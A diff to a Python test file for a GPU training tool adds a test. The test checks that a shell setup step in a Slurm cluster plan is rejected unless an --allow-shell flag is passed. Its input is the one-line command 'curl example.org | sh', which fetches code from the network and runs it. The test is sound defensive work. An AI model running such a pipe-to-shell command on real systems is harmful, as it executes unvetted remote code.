@@ -26,6 +26,7 @@ from gpu_studio.contract.events import (
     Warned,
     Workers,
 )
+from gpu_studio.hosts import slurm_run
 from gpu_studio.trainer.cluster import attempt, supervisor, workers
 from gpu_studio.trainer.errors import ClusterError, WorkerFailed
 
@@ -186,6 +187,16 @@ def test_that_a_port_in_use_is_told_before_anything_starts(run: Supervised) -> N
 def test_that_a_stop_before_the_first_step_ends_all(run: Supervised) -> None:
     run.stopping = True
     assert run.train({}).reason == "stopped_now"
+
+
+def test_that_no_shell_of_a_plan_runs_that_is_not_allowed_whoever_starts_the_trainer(
+    run: Supervised, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(slurm_run, "submit", lambda *_words, **_more: pytest.fail("submitted"))
+    setup = "cluster.slurm={ setup = ['curl example.org | sh'] }"
+    failed = run.failure({}, "cluster.start=slurm", setup)
+    assert "they are not allowed" in str(failed)
+    assert "--allow-shell" in failed.suggestions[0]
 
 
 def test_that_what_another_engine_starts_is_not_started_here(run: Supervised) -> None:
